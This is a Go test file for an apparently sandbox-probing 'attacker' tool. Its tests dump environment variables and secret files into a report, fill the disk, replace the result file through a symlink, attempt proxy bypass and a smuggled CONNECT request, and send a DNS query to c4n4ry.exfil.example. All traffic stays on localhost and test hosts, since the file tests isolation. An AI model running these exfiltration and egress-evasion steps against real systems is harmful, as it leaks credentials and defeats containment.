package main

import (
	"bufio"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// These tests run safe ops only, and send traffic to 127.0.0.1 only.

// report is result.json as the attack task writes it by default.
type report struct {
	Title   string    `json:"title"`
	Summary string    `json:"summary"`
	Ops     []outcome `json:"ops"`
}

// newAttacker is an attacker whose /input and /output are temp dirs.
func newAttacker(t *testing.T) *attacker {
	t.Helper()
	dir := t.TempDir()
	a := &attacker{input: filepath.Join(dir, "input"), output: filepath.Join(dir, "output")}
	for _, d := range []string{a.input, a.output} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return a
}

// attack runs steps, each given as JSON, and returns the raw result.json.
func attack(t *testing.T, a *attacker, steps ...string) []byte {
	t.Helper()
	if err := a.run("[" + strings.Join(steps, ",") + "]"); err != nil {
		t.Fatalf("run: %v", err)
	}
	b, err := os.ReadFile(a.resultFile())
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// attackReport runs steps and decodes the default report.
func attackReport(t *testing.T, a *attacker, steps ...string) report {
	t.Helper()
	var r report
	if err := json.Unmarshal(attack(t, a, steps...), &r); err != nil {
		t.Fatal(err)
	}
	if r.Title != "hostile report" || len(r.Ops) != len(steps) {
		t.Fatalf("report %+v, want %d ops", r, len(steps))
	}
	return r
}

func checkOp(t *testing.T, got outcome, op string, ok bool, errno string) {
	t.Helper()
	if got.Op != op || got.OK != ok || got.Errno != errno {
		t.Errorf("%s: got op=%s ok=%v errno=%q (%s), want ok=%v errno=%q", op, got.Op, got.OK, got.Errno, got.Error, ok, errno)
	}
}

func TestAttack_FilesAndSummary(t *testing.T) {
	t.Setenv("HOSTILE_TEST_CANARY", "c4n4ry")
	a := newAttacker(t)
	if err := os.WriteFile(filepath.Join(a.input, "secret"), []byte("s3cret\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := attackReport(t, a,
		`{"op":"env_dump","into_result":"summary"}`,
		`{"op":"read_file","path":"/input/secret","into_result":"summary"}`,
		`{"op":"read_file","path":"/input/missing"}`,
		`{"op":"write_file","path":"/output/w"}`,
		`{"op":"fill","path":"/output/fill","bytes":"3000000"}`,
		`{"op":"grep_fs","root":"/input","pattern":"cret","max_files":10}`,
		`{"op":"no_such_op"}`,
	)
	checkOp(t, r.Ops[0], "env_dump", true, "")
	checkOp(t, r.Ops[1], "read_file", true, "")
	checkOp(t, r.Ops[2], "read_file", false, "ENOENT")
	checkOp(t, r.Ops[3], "write_file", true, "")
	checkOp(t, r.Ops[4], "fill", true, "")
	checkOp(t, r.Ops[5], "grep_fs", true, "")
	checkOp(t, r.Ops[6], "no_such_op", false, "")
	if !strings.Contains(r.Summary, "HOSTILE_TEST_CANARY=c4n4ry") || !strings.HasSuffix(r.Summary, "\ns3cret\n") {
		t.Errorf("summary %q lacks the env dump or the file", r.Summary)
	}
	if r.Ops[1].Bytes != 7 || r.Ops[4].Bytes != 3000000 {
		t.Errorf("bytes: read_file %d, fill %d", r.Ops[1].Bytes, r.Ops[4].Bytes)
	}
	if info, err := os.Stat(filepath.Join(a.output, "fill")); err != nil || info.Size() != 3000000 {
		t.Errorf("fill left %v, %v", info, err)
	}
	if got := r.Ops[5].Detail["matches"]; got != 1.0 {
		t.Errorf("grep_fs matches = %v, want 1", got)
	}
}

func TestAttack_DefaultSummaryIsDone(t *testing.T) {
	r := attackReport(t, newAttacker(t), `{"op":"sleep","seconds":0}`)
	checkOp(t, r.Ops[0], "sleep", true, "")
	if r.Summary != "done" {
		t.Errorf("summary %q", r.Summary)
	}
}

func TestAttack_OpsThatTakeOverTheResult(t *testing.T) {
	tests := []struct {
		name, step, want string
	}{
		{"write_result", `{"op":"write_result","result":{"title":"t\u001b","summary":"s","tool_calls":[]}}`, `{"title":"t\u001b","summary":"s","tool_calls":[]}`},
		{"write_result_raw", `{"op":"write_result_raw","raw":"Sure! {\"a\":1,\"a\":2}"}`, `Sure! {"a":1,"a":2}`},
		{"write_result_bytes", `{"op":"write_result_bytes","bytes":10}`, `"aaaaaaaa"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			// The env dump after it must not overwrite the result.
			got := attack(t, newAttacker(t), tt.step, `{"op":"env_dump","into_result":"summary"}`)
			if string(got) != tt.want {
				t.Errorf("result.json = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestAttack_SymlinkResultIsLeftAlone(t *testing.T) {
	a := newAttacker(t)
	target := filepath.Join(a.input, "target")
	if err := a.run(`[{"op":"symlink","target":"` + target + `","link":"/output/result.json"}]`); err != nil {
		t.Fatal(err)
	}
	if got, err := os.Readlink(a.resultFile()); err != nil || got != target {
		t.Errorf("result.json links to %q (%v), want %q", got, err, target)
	}
}

func TestAttack_TCP(t *testing.T) {
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer lis.Close()
	line := make(chan string, 1)
	go func() {
		c, err := lis.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		s, _ := bufio.NewReader(c).ReadString('\n')
		line <- s
	}()
	closed, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closedPort := closed.Addr().(*net.TCPAddr).Port
	closed.Close()

	port := lis.Addr().(*net.TCPAddr).Port
	r := attackReport(t, newAttacker(t),
		`{"op":"connect_tcp","host":"127.0.0.1","port":`+strconv.Itoa(port)+`}`,
		`{"op":"connect_tcp","host":"127.0.0.1","port":"`+strconv.Itoa(closedPort)+`","bypass_proxy":true}`,
	)
	checkOp(t, r.Ops[0], "connect_tcp", true, "")
	checkOp(t, r.Ops[1], "connect_tcp", false, "ECONNREFUSED")
	if got := <-line; got != "hostile\n" {
		t.Errorf("listener got %q", got)
	}
}

// testProxy plays the egress proxy: it lets allowed.test through and
// answers 403 to anything else, CONNECT included.
func testProxy(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case !r.URL.IsAbs() && r.Method != http.MethodConnect:
			io.WriteString(w, "direct")
		case r.Method != http.MethodConnect && r.URL.Host == "allowed.test":
			io.WriteString(w, "hello from "+r.URL.String())
		default:
			http.Error(w, "denied by policy", http.StatusForbidden)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestAttack_HTTP(t *testing.T) {
	proxy := testProxy(t)
	t.Setenv("HTTP_PROXY", proxy.URL)
	r := attackReport(t, newAttacker(t),
		`{"op":"http_get","url":"http://allowed.test/?leak=x","via_proxy":true,"into_result":"summary"}`,
		`{"op":"http_post","url":"http://forbidden.test/","via_proxy":true,"body":"doc"}`,
		`{"op":"http_get","url":"https://forbidden.test/","via_proxy":"true"}`,
		`{"op":"raw_proxy_request","request":"CONNECT forbidden.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"}`,
		`{"op":"http_get","url":"`+proxy.URL+`/x","via_proxy":false}`,
	)
	checkOp(t, r.Ops[0], "http_get", true, "")
	checkOp(t, r.Ops[1], "http_post", false, "")
	checkOp(t, r.Ops[2], "http_get", false, "")
	checkOp(t, r.Ops[3], "raw_proxy_request", false, "")
	checkOp(t, r.Ops[4], "http_get", true, "")
	if r.Summary != "hello from http://allowed.test/?leak=x" {
		t.Errorf("summary %q", r.Summary)
	}
	for i, want := range []struct {
		status int
		denied bool
	}{{200, false}, {403, true}, {403, true}, {403, true}, {200, false}} {
		if o := r.Ops[i]; o.Status != want.status || o.DeniedByProxy != want.denied {
			t.Errorf("op %d %s: status %d denied_by_proxy %v, want %d %v", i, o.Op, o.Status, o.DeniedByProxy, want.status, want.denied)
		}
	}

	t.Setenv("HTTP_PROXY", "")
	t.Setenv("http_proxy", "")
	r = attackReport(t, newAttacker(t), `{"op":"http_get","url":"http://allowed.test/","via_proxy":true}`)
	checkOp(t, r.Ops[0], "http_get", false, "")
	if !strings.HasPrefix(r.Ops[0].Error, "no proxy") {
		t.Errorf("error %q, want no proxy", r.Ops[0].Error)
	}
}

func TestAttack_DNS(t *testing.T) {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer pc.Close()
	names := make(chan string, 1)
	go func() {
		buf := make([]byte, 512)
		n, from, err := pc.ReadFrom(buf)
		if err != nil {
			return
		}
		names <- string(buf[12 : n-4])
		buf[2] |= 0x80 // a response, with no answer: enough for the op
		pc.WriteTo(buf[:n], from)
	}()
	closed, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	closedPort := closed.LocalAddr().(*net.UDPAddr).Port
	closed.Close()

	r := attackReport(t, newAttacker(t),
		`{"op":"dns_query","name":"c4n4ry.exfil.example","server":"127.0.0.1","port":`+strconv.Itoa(pc.LocalAddr().(*net.UDPAddr).Port)+`}`,
		`{"op":"dns_query","name":"x.example","server":"127.0.0.1","port":"`+strconv.Itoa(closedPort)+`"}`,
	)
	checkOp(t, r.Ops[0], "dns_query", true, "")
	checkOp(t, r.Ops[1], "dns_query", false, "ECONNREFUSED")
	if got := <-names; got != "\x06c4n4ry\x05exfil\x07example\x00" {
		t.Errorf("query name %q", got)
	}
}

func TestParseMountinfo(t *testing.T) {
	got := parseMountinfo("36 35 98:0 /jobs/j1/input /input ro,nosuid master:1 - ext4 /dev/vda1 rw\nbad line\n")
	want := mount{Point: "/input", Root: "/jobs/j1/input", FSType: "ext4", Source: "/dev/vda1", Options: "ro,nosuid"}
	if len(got) != 1 || got[0] != want {
		t.Errorf("got %+v, want %+v", got, want)
	}
}
